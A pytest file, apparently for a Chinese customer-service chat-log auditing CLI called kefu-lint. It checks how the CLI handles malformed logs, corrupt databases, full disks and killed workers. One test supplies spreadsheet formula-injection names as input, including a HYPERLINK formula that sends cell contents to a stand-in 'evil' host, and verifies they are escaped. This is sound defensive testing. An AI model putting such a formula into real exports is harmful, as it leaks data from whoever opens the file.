"""`kefu-lint audit` against hostile input and a broken environment (issue #19): through the
installed console script, with real files, real databases, real processes and signals."""

from __future__ import annotations

import csv
import gzip
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

KEFU_LINT = str(Path(sys.executable).parent / "kefu-lint")


def audit(*args, stdin: bytes | None = None, timeout: float = 300):
    result = subprocess.run([KEFU_LINT, "audit", "--no-progress", *map(str, args)], input=stdin, capture_output=True,
                            timeout=timeout)
    result.out = result.stdout.decode("utf-8", "replace")
    result.err = result.stderr.decode("utf-8", "replace")
    return result


def rows(database: Path, query: str, *params):
    with sqlite3.connect(database) as db:
        return db.execute(query, params).fetchall()


def message(conversation: str, role: str, text: str, **fields) -> str:
    return json.dumps({"conversation_id": conversation, "role": role, "text": text, **fields}, ensure_ascii=False)


def write_jsonl(path: Path, lines: list[str]) -> Path:
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    return path


def good_lines(count: int) -> list[str]:
    return [message(f"c{i // 4}", "customer" if i % 2 == 0 else "agent", f"您好，第{i}条", time=1762000000 + i * 10)
            for i in range(count)]


def assert_clean_failure(result, *expected: str):
    assert result.returncode == 2, result.out + result.err
    assert "Traceback" not in result.err, result.err
    for text in expected:
        assert text in result.err, result.err


# ----------------------------------------------------------------------------- D11 + reconciliation

def test_csv_unclosed_quote_rejects_its_row_and_reads_the_rest(tmp_path):
    table = ["cid,role,text"] + [f"c{i % 50},{'agent' if i % 2 else 'customer'},您好{i}" for i in range(1000)]
    table[3] = 'c1,agent,"您好 never closed'
    log = tmp_path / "quote.csv"
    log.write_text("\n".join(table) + "\n", encoding="utf-8")
    result = audit(log, "--out", tmp_path / "out", "--columns", "conversation_id=cid,role=role,text=text", "--max-rejected", "1")
    assert result.returncode == 0, result.out + result.err
    assert "lines read 1000 = 999 scored + 1 rejected (totals reconcile)" in result.out
    assert "quote.csv:4: 拒收：引号未闭合" in result.err
    assert rows(tmp_path / "out" / "audit.db", "SELECT line FROM rejected") == [(4,)]


def test_csv_unclosed_quote_in_the_middle_costs_only_its_line(tmp_path):
    # A quoted cell may span lines; one that never closes is cut at MAX_ROW_LINES lines.
    from kefu_lint.formats.chatlog import MAX_ROW_LINES

    lines = ["c0,customer,在吗", 'c0,agent,"第一行\n第二行"'] + ['c1,agent,"never closed'] + [
        f"c{2 + i // 10},customer,你好{i}" for i in range(MAX_ROW_LINES + 50)]
    log = tmp_path / "middle.csv"
    log.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = audit(log, "--out", tmp_path / "out", "--columns", "conversation_id=1,role=2,text=3")
    total = MAX_ROW_LINES + 53
    assert f"lines read {total} = {total - 1} scored + 1 rejected (totals reconcile)" in result.out, result.out + result.err
    assert "middle.csv:4: 拒收：引号未闭合？" in result.err  # the multi-line cell on lines 2-3 is fine
    texts = rows(tmp_path / "out" / "audit.db", "SELECT text FROM messages WHERE conversation_id = 'c0' ORDER BY seq")
    assert texts == [("在吗",), ("第一行\n第二行",)]


def test_records_lost_on_the_way_to_the_database_fail_the_run(tmp_path):
    out = tmp_path / "out"
    assert audit(write_jsonl(tmp_path / "first.jsonl", good_lines(4)), "--out", out).returncode == 0
    # Fault injection: the database silently drops one message of the next run.
    with sqlite3.connect(out / "audit.db") as db:
        db.execute("CREATE TRIGGER lose_one BEFORE INSERT ON messages WHEN NEW.line = 3 BEGIN SELECT RAISE(IGNORE); END")
    result = audit(write_jsonl(tmp_path / "second.jsonl", good_lines(12)), "--out", out)
    assert "lines read 12 = 11 scored + 0 rejected (TOTALS DO NOT RECONCILE)" in result.out, result.out
    assert_clean_failure(result, "1 of them were neither scored nor rejected")


# ----------------------------------------------------------------------------- D6, D9, D10, D8: bad values reject their line

def test_undecodable_bytes_and_lone_surrogates_in_any_field_reject_the_line(tmp_path):
    good = good_lines(8)
    log = tmp_path / "surrogates.jsonl"
    log.write_bytes("\n".join(good[:2]).encode() + b"\n"
                    + b'{"conversation_id":"\\ud800","role":"agent","text":"x"}\n'          # line 3: a lone surrogate escape
                    + b'{"conversation_id":"c9","role":"agent","text":"x","agent":"\xff\xfe"}\n'  # line 4: bytes, not UTF-8
                    + b'{"conversation_id":"c9","role":"agent","text":"x","shop":"\\udcff"}\n'   # line 5
                    + "\n".join(good[2:]).encode() + b"\n")
    out = tmp_path / "out"
    result = audit(log, "--out", out, "--max-rejected", "3")
    assert result.returncode == 0, result.out + result.err
    assert "lines read 11 = 8 scored + 3 rejected (totals reconcile)" in result.out
    reasons = dict(rows(out / "audit.db", "SELECT line, reason FROM rejected"))
    assert "conversation_id 含有孤立的代理码位" in reasons[3]
    assert "agent 含有不是 UTF-8 的字节" in reasons[4] and "shop" in reasons[5]
    # and the CSV reader: an undecodable row is rejected alone
    table = tmp_path / "bytes.csv"
    table.write_bytes("c1,customer,在吗\n".encode() + b"c1,agent\xff,x\n" + "c1,agent,在的\n".encode())
    result = audit(table, "--out", tmp_path / "csv", "--columns", "conversation_id=1,role=2,text=3")
    assert "lines read 3 = 2 scored + 1 rejected (totals reconcile)" in result.out, result.out + result.err
    assert "bytes.csv:2: 拒收：role 含有不是 UTF-8 的字节" in result.err


def test_absurd_times_and_deep_nesting_reject_the_line(tmp_path):
    lines = good_lines(4) + [
        message("c9", "agent", "x", time=int("9" * 401)),      # OverflowError as a float
        '{"conversation_id": "c9", "role": "agent", "text": "x", "time": Infinity}',
        '{"conversation_id": "c9", "role": "agent", "text": "x", "time": NaN}',
        message("c9", "agent", "x", time="-inf"),
        message("c9", "agent", "x", time="1e400"),
        "[" * 100_000 + "]" * 100_000,                           # RecursionError in the JSON parser
        '{"a": ' * 50_000 + "1" + "}" * 50_000,
    ]
    out = tmp_path / "out"
    result = audit(write_jsonl(tmp_path / "absurd.jsonl", lines), "--out", out, "--max-rejected", "100%")
    assert result.returncode == 0, result.out + result.err
    assert "lines read 11 = 4 scored + 7 rejected (totals reconcile)" in result.out
    reasons = [reason for (reason,) in rows(out / "audit.db", "SELECT reason FROM rejected ORDER BY line")]
    assert all("time" in reason for reason in reasons[:5]) and all("嵌套过深" in r for r in reasons[5:])
    # conversations.jsonl stays valid JSON (no Infinity, no NaN)
    for line in (out / "conversations.jsonl").read_text(encoding="utf-8").splitlines():
        json.loads(line, parse_constant=lambda name: pytest.fail(f"{name} in conversations.jsonl"))


def test_epoch_milliseconds_are_read_as_milliseconds(tmp_path):
    # The same conversation, with times in seconds and in milliseconds: the same findings.
    def conversation(scale):
        return [message("c1", "customer", "在吗", time=1762000000 * scale),
                message("c1", "agent", "您好，在的，请问有什么可以帮您？", time=(1762000000 + 20) * scale),
                message("c1", "customer", "好的谢谢", time=(1762000000 + 40) * scale)]

    seconds, milliseconds = tmp_path / "s", tmp_path / "ms"
    audit(write_jsonl(tmp_path / "s.jsonl", conversation(1)), "--out", seconds)
    audit(write_jsonl(tmp_path / "ms.jsonl", conversation(1000)), "--out", milliseconds)
    query = "SELECT code, message_index FROM findings ORDER BY 1, 2"
    assert rows(milliseconds / "audit.db", query) == rows(seconds / "audit.db", query)
    assert rows(milliseconds / "audit.db", "SELECT first_response_seconds FROM conversations") == [(20.0,)]
    assert rows(milliseconds / "audit.db", "SELECT time FROM messages ORDER BY seq LIMIT 1") == [(1762000000.0,)]


# ----------------------------------------------------------------------------- D30

def test_truncated_gzip_keeps_its_readable_prefix_and_completes(tmp_path):
    data = gzip.compress(("\n".join(good_lines(4000)) + "\n").encode())
    log = tmp_path / "cut.jsonl.gz"
    log.write_bytes(data[: len(data) // 2])
    for jobs in ("1", "2"):
        out = tmp_path / f"out{jobs}"
        result = audit(log, "--out", out, "--jobs", jobs, "--max-rejected", "1")
        assert result.returncode == 0, result.out + result.err
        assert "(totals reconcile)" in result.out
        scored = rows(out / "audit.db", "SELECT COUNT(*) FROM messages")[0][0]
        assert scored > 1000  # the readable prefix, not lost with the batch it was read in
        assert rows(out / "audit.db", "SELECT status FROM runs") == [("complete",)]
        ((line, reason),) = rows(out / "audit.db", "SELECT line, reason FROM rejected WHERE reason LIKE '%无法读取%'")
        assert line > scored and "从此处起无法读取" in reason


# ----------------------------------------------------------------------------- D3: a broken environment is exit 2

@pytest.fixture
def mount_tmpfs(tmp_path):
    """A small file system of its own (a full disk, a read-only folder); needs root."""
    points = []

    def mount(options: str) -> Path:
        point = tmp_path / f"mount{len(points)}"
        point.mkdir()
        done = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(point)], capture_output=True, text=True)
        if done.returncode != 0:
            pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip()}")
        points.append(point)
        return point

    yield mount
    for point in reversed(points):
        subprocess.run(["umount", "-l", str(point)], capture_output=True)


def test_disk_full_is_a_clear_error_and_the_run_resumes(tmp_path, mount_tmpfs):
    log = write_jsonl(tmp_path / "big.jsonl", good_lines(40_000))  # about 5 MB: the database outgrows 2 MB
    disk = mount_tmpfs("size=2m")
    for jobs in ("1", "2"):
        out = disk / f"out{jobs}"
        result = audit(log, "--out", out, "--jobs", jobs)
        assert_clean_failure(result, f"{out}/audit.db: cannot use the audit database: database or disk is full")
        subprocess.run(["rm", "-rf", str(out)], check=True)
    result = audit(log, "--out", disk / "out")
    subprocess.run(["mount", "-o", "remount,size=64m", str(disk)], check=True)  # space freed
    resumed = audit(log, "--out", disk / "out", "--resume")
    assert resumed.returncode == 0 and "lines read 40000 = 40000 scored + 0 rejected (totals reconcile)" in resumed.out, (
        resumed.out + resumed.err)


def test_read_only_out_and_unwritable_report_are_clear_errors(tmp_path, mount_tmpfs):
    log = write_jsonl(tmp_path / "log.jsonl", good_lines(8))
    read_only = mount_tmpfs("ro,size=1m")
    assert_clean_failure(audit(log, "--out", read_only / "out"), f"{read_only}/out: cannot write: Read-only file system")
    (tmp_path / "a-file").write_text("", encoding="utf-8")
    result = audit(log, "--out", tmp_path / "out", "--report", tmp_path / "a-file" / "report.html")
    assert_clean_failure(result, "report.html: cannot write")


def test_a_database_that_is_not_one_or_is_corrupt_or_old_is_a_clear_error(tmp_path):
    log = write_jsonl(tmp_path / "log.jsonl", good_lines(8))
    not_a_database = tmp_path / "notes.db"
    not_a_database.write_text("these are my notes, not a database\n" * 200, encoding="utf-8")
    assert_clean_failure(audit(log, "--db", not_a_database, "--out", tmp_path / "a"), "notes.db: cannot use the audit database: file is not a database")
    corrupt = tmp_path / "corrupt"
    assert audit(write_jsonl(tmp_path / "many.jsonl", good_lines(8000)), "--out", corrupt).returncode == 0
    with open(corrupt / "audit.db", "r+b") as database:
        database.seek(8 * 4096)
        database.write(b"\xde\xad\xbe\xef" * 40_000)
    assert_clean_failure(audit(tmp_path / "many.jsonl", "--out", corrupt, "--restart"), "database disk image is malformed")
    old = tmp_path / "old"
    assert audit(log, "--out", old).returncode == 0
    with sqlite3.connect(old / "audit.db") as db:
        db.execute("UPDATE meta SET value = '1' WHERE key = 'schema_version'")
    assert_clean_failure(audit(log, "--out", old), "written by another version of kefu-lint (schema 1")


# ----------------------------------------------------------------------------- D2, D1, D28: a supervisor for --jobs

def children(pid: int) -> list[int]:
    found = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        found += [int(child) for child in (task / "children").read_text().split()]
    return found


def alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state != "Z"  # a zombie has exited; only its parent's reaping is left


def wait_until(condition, what: str, limit: float = 120):
    """A hang guard, not a timing assertion: the condition is expected long before."""
    deadline = time.monotonic() + limit
    while not condition():
        assert time.monotonic() < deadline, what
        time.sleep(0.05)


@pytest.fixture(scope="module")
def big_log(tmp_path_factory):
    return write_jsonl(tmp_path_factory.mktemp("big") / "big.jsonl", good_lines(40_000))  # 10,000 conversations


def start_audit(log: Path, out: Path, *extra: str) -> subprocess.Popen:
    process = subprocess.Popen([KEFU_LINT, "audit", "--no-progress", str(log), "--out", str(out), "--jobs", "2", *extra],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)

    def scoring():
        assert process.poll() is None, process.communicate()
        try:
            return rows(out / "audit.db", "SELECT COUNT(*) FROM conversations")[0][0] > 0
        except sqlite3.Error:
            return False

    wait_until(scoring, "the audit never started scoring")
    return process


def finish(process: subprocess.Popen):
    stdout, stderr = process.communicate(timeout=120)
    return process.returncode, stdout.decode("utf-8", "replace"), stderr.decode("utf-8", "replace")


def assert_resumes(log: Path, out: Path):
    resumed = audit(log, "--out", out, "--resume", "--jobs", "2")
    assert resumed.returncode == 0, resumed.out + resumed.err
    assert "lines read 40000 = 40000 scored + 0 rejected (totals reconcile)" in resumed.out
    assert rows(out / "audit.db", "SELECT COUNT(*) FROM conversations") == [(10_000,)]


def interrupted_run(tmp_path: Path, log: Path, interrupt) -> tuple[int | None, str]:
    """Start a --jobs 2 audit, ``interrupt(process, workers)`` it while it scores; then no
    worker may outlive it and ``--resume`` must complete it. Returns its exit code and stderr."""
    out = tmp_path / "out"
    process = start_audit(log, out)
    workers = children(process.pid)
    assert len(workers) >= 2
    interrupt(process, workers)
    code, _, stderr = finish(process)  # before the fix: a killed worker left the parent waiting forever
    wait_until(lambda: not any(alive(pid) for pid in workers), "a worker outlived the run")
    assert_resumes(log, out)
    return code, stderr


def test_a_killed_worker_stops_the_run_with_a_clear_error_and_it_resumes(tmp_path, big_log):
    code, stderr = interrupted_run(tmp_path, big_log, lambda process, workers: os.kill(workers[0], signal.SIGKILL))  # OOM killer
    assert code == 2 and "Traceback" not in stderr, stderr
    assert "a worker process of the audit died" in stderr and "--resume" in stderr


def test_no_worker_outlives_a_parent_killed_with_kill_9(tmp_path, big_log):
    interrupted_run(tmp_path, big_log, lambda process, workers: process.send_signal(signal.SIGKILL))


def test_ctrl_c_with_two_jobs_prints_one_line_and_no_worker_traceback(tmp_path, big_log):
    # A terminal's Ctrl-C reaches the whole process group.
    code, stderr = interrupted_run(tmp_path, big_log, lambda process, workers: os.killpg(process.pid, signal.SIGINT))
    assert code == 2 and "Traceback" not in stderr and "KeyboardInterrupt" not in stderr, stderr
    assert stderr.strip().splitlines() == [f"error: interrupted: what was committed to {tmp_path}/out/audit.db is kept;"
                                           " rerun with --resume to go on"]


# ----------------------------------------------------------------------------- D14

def test_agents_csv_is_safe_from_formula_injection(tmp_path):
    names = ['=HYPERLINK("http://evil/?x="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "小美"]
    lines = []
    for number, name in enumerate(names):
        lines += [message(f"c{number}", "customer", "在吗"), message(f"c{number}", "agent", "您好，在的", agent=name)]
    out = tmp_path / "out"
    assert audit(write_jsonl(tmp_path / "evil.jsonl", lines), "--out", out).returncode == 0
    with (out / "agents.csv").open(encoding="utf-8-sig", newline="") as handle:
        agents = [row["agent"] for row in csv.DictReader(handle)]
    assert sorted(agents) == sorted("'" + name if name != "小美" else name for name in names)


# ----------------------------------------------------------------------------- D7

def test_a_repeated_message_id_is_rejected_not_scored_twice(tmp_path):
    conversation = [message("c1", "customer", "在吗", message_id="m1"), message("c1", "agent", "不行", message_id="m2")]
    other = [message("c2", "customer", "在吗", message_id="m1")]  # ids are per conversation: not a repeat
    for jobs in ("1", "2"):
        out = tmp_path / f"out{jobs}"
        log = write_jsonl(tmp_path / "twice.jsonl", conversation + conversation + other)
        result = audit(log, "--out", out, "--jobs", jobs, "--max-rejected", "40%")
        assert result.returncode == 0, result.out + result.err
        assert "lines read 5 = 3 scored + 2 rejected (totals reconcile)" in result.out
        assert f"twice.jsonl:3: 拒收：message_id 'm1' 重复：已在 {log}:1 读过" in result.err
        assert rows(out / "audit.db", "SELECT COUNT(*) FROM findings WHERE code = 'KF101'") == [(1,)]


# ----------------------------------------------------------------------------- D4, D5

def test_a_second_audit_into_the_same_out_is_refused_while_the_first_runs(tmp_path, big_log):
    out = tmp_path / "kefu-audit"
    first = start_audit(big_log, out)
    second = audit(write_jsonl(tmp_path / "other.jsonl", good_lines(8)), "--out", out)
    assert_clean_failure(second, f"{out} is in use by another audit running now")
    code, stdout, stderr = finish(first)
    assert code == 0 and "(totals reconcile)" in stdout, stdout + stderr
    lines = (out / "conversations.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(lines) == 10_000 and all(json.loads(line)["conversation_id"].startswith("c") for line in lines)
    # the lock goes with the audit that held it: the next one runs
    assert audit(tmp_path / "other.jsonl", "--out", out).returncode == 0


def test_the_same_log_by_another_name_or_from_stdin_is_the_same_run(tmp_path):
    lines = good_lines(12)
    log = write_jsonl(tmp_path / "x.jsonl", lines)
    copy = write_jsonl(tmp_path / "copy.jsonl", lines)
    out = tmp_path / "out"

    def run_from(directory: Path, *args, stdin: bytes | None = None):
        result = subprocess.run([KEFU_LINT, "audit", "--no-progress", *map(str, args), "--out", str(out)], cwd=directory,
                                input=stdin, capture_output=True, text=stdin is None, timeout=300)
        assert result.returncode == 0, result
        return result.stdout if stdin is None else result.stdout.decode()

    run_from(tmp_path, "./x.jsonl")
    for again in (run_from(tmp_path, log.resolve()), run_from(tmp_path / "out", "../x.jsonl"), run_from(tmp_path, copy),
                  run_from(tmp_path, "-", stdin=log.read_bytes())):
        assert "already audited" in again
    assert rows(out / "audit.db", "SELECT COUNT(*), SUM(messages) FROM runs") == [(1, 12)]
    assert not list(out.glob("stdin-*")), "a stdin audit leaves no copy of its input behind"


# ----------------------------------------------------------------------------- D29

CATASTROPHIC_RULE = """\
extends: default
rules:
  KF990:
    name: catastrophic-pattern
    check: phrases
    zone: yellow
    message: slow
    boundaries: false
    patterns: ["(a|aa)+$"]
"""


def test_a_pattern_time_limit_warns_once_per_pattern_with_a_count(tmp_path):
    ruleset = tmp_path / "slow.yaml"
    ruleset.write_text(CATASTROPHIC_RULE, encoding="utf-8")
    replies = [message("c1", "customer", "在吗")] + [message("c1", "agent", "a" * (60 + i) + "!") for i in range(3)]
    for jobs in ("1", "2"):
        result = audit(write_jsonl(tmp_path / "slow.jsonl", replies), "--out", tmp_path / f"out{jobs}", "--ruleset", ruleset,
                       "--jobs", jobs)
        assert result.returncode == 0, result.out + result.err
        warned = [line for line in result.err.splitlines() if "time limit" in line]
        assert warned == ["warning: KF990: pattern '(a|aa)+$' exceeded its 0.25s time limit on 3 replies and was skipped for them;"
                          " simplify the pattern (avoid nested repeats such as (a+)+)"], result.err


def test_a_new_audit_can_take_the_out_folder_at_once_after_its_parent_is_killed(tmp_path, big_log):
    """The OUT lock was inherited by the forked workers: after a kill -9 of the parent, its
    orphans held it until they noticed (up to 0.5 s), and a new audit was refused. Now only
    the parent holds it: the folder is free the moment the parent is gone."""
    from kefu_lint.audit.run import audit_folder_lock

    out = tmp_path / "out"
    process = start_audit(big_log, out)
    workers = children(process.pid)
    assert len(workers) >= 2
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=60)
    with audit_folder_lock(out):  # at once: before the fix this raised "in use by another audit"
        pass
    wait_until(lambda: not any(alive(pid) for pid in workers), "a worker outlived the run")
    other = audit(write_jsonl(tmp_path / "other.jsonl", good_lines(8)), "--out", out)
    assert other.returncode == 0, other.out + other.err


def _sleep_long(seconds: float) -> int:
    time.sleep(seconds)
    return os.getpid()


def test_closing_the_workers_on_an_error_stops_a_task_under_way():
    """``Supervised.close(wait=False)`` stops its own workers (kept by the context they are
    started from: no private attribute of the pool) and only them, at once."""
    import multiprocessing
    from concurrent.futures import CancelledError

    from kefu_lint.workers import Supervised, WorkerDied

    workers = Supervised(2, what="test")
    assert len(list(workers.ordered(_sleep_long, [(0,), (0,)]))) == 2
    started = workers.start(_sleep_long, [(600,)])
    busy = [p for p in multiprocessing.active_children() if p.is_alive()]
    assert busy
    workers.close(wait=False)  # a hang guard: without the stop this would wait 600 s
    wait_until(lambda: not any(p.is_alive() for p in busy), "a worker survived close(wait=False)", limit=30)
    with pytest.raises((WorkerDied, CancelledError)):
        started()


# ----------------------------------------------------------------------------- rejection reasons an auditor reads

#: Words of the English reasons (a Chinese reason may name a field or an option, not say these).
ENGLISH_REASON_WORDS = ("has ", "must", "missing", "invalid", "unknown", "duplicate", "already", "unclosed", "malformed",
                        "longer", "is not", "out of range", "row has", "cannot", "names no")
CHINESE_REASON_WORDS = ("含有", "缺少", "无效", "不认识", "重复", "引号", "超出", "不是", "须", "只有", "无法")


def test_every_rejection_reason_is_chinese_and_english_with_lang_en(tmp_path):
    """The old reasons were English ("unknown role", "invalid JSON", "duplicate message_id"…)
    in a Chinese CS team's audit; now each is Chinese, shown and stored, English with --lang en."""
    jsonl = [message("c1", "customer", "在吗", message_id="m1"), message("c1", "customer", "在吗", message_id="m1"), '{"broken',
             "[1, 2]", json.dumps({"conversation_id": "c2", "text": "x"}), message("c2", "bot?", "x"),
             message("c2", "agent", "x", time="yesterday"), message("c2", "agent", "x", time=float("nan")),
             message("c2", "agent", "x", time=10**20), message("c2", "agent", "x", time="2026/13/01 10:00"),
             message("c2", "agent", 5), message("c2", "agent", "x", partial="maybe"), "[" * 100_000,
             message("\ud800", "agent", "x")]
    log = tmp_path / "bad.jsonl"
    log.write_bytes("".join(line + "\n" for line in jsonl).encode("utf-8", "surrogatepass")
                    + b'{"conversation_id":"c3","role":"agent","text":"\xff"}\n')
    table = tmp_path / "bad.csv"
    table.write_text('cid,role,text\nc1,customer\nc1,agent,"never closed\n', encoding="utf-8")
    columns = ("--columns", "conversation_id=cid,role=role,text=text")
    for language, foreign in (("zh", ENGLISH_REASON_WORDS), ("en", CHINESE_REASON_WORDS)):
        extra = ("--lang", language)
        out = tmp_path / language
        results = [audit(log, "--out", out / "jsonl", "--max-rejected", "100%", *extra),
                   audit(table, "--out", out / "csv", "--max-rejected", "100%", *columns, *extra)]
        assert all(r.returncode == 0 for r in results), [r.err for r in results]
        stored = [reason for name in ("jsonl", "csv") for (reason,) in rows(out / name / "audit.db", "SELECT reason FROM rejected")]
        assert len(stored) == len(jsonl) + 1 - 1 + 2  # every bad line but the first copy of m1, and both bad rows
        shown = [line.split("拒收：" if language == "zh" else "rejected: ", 1)[1] for r in results for line in r.err.splitlines()
                 if ".jsonl:" in line or ".csv:" in line]
        assert sorted(shown) == sorted(stored)
        for reason in stored:
            assert not any(word in reason.lower() for word in foreign), (language, reason)
            # (an English reason may show the Chinese time form it accepts)
            assert any("\u4e00" <= ch <= "\u9fff" for ch in reason.replace("2026年11月1日", "")) == (language == "zh"), reason
